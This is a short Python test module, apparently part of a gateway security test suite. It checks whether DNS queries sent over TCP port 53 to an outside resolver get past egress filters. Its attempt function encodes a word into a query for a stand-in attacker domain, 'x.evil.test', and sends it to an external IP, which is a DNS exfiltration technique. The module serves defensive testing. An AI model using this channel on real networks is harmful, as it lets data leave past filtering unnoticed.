"""A resolver of the attacker's choice, over TCP.

Filters for UDP 53 leave TCP 53, which every resolver speaks too, and on which a connection may
carry anything in messages of up to 64 KiB.

Not covered: DNS over TLS and HTTPS, techniques of their own.
"""

ATTACK = {
    "title": "Question to another resolver over TCP",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-200", "R046", "RFC 7766"],
    "arrives": [{"what": "tcp", "port": 53}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "*.x.evil.test"}},
    ],
}


def attempt(kit):
    import wire

    message = wire.dns_message(wire.question(f"{kit.word}.x.evil.test"))
    kit.talk("93.184.216.66", 53, wire.text(len(message).to_bytes(2, "big") + message), patience=0.1)
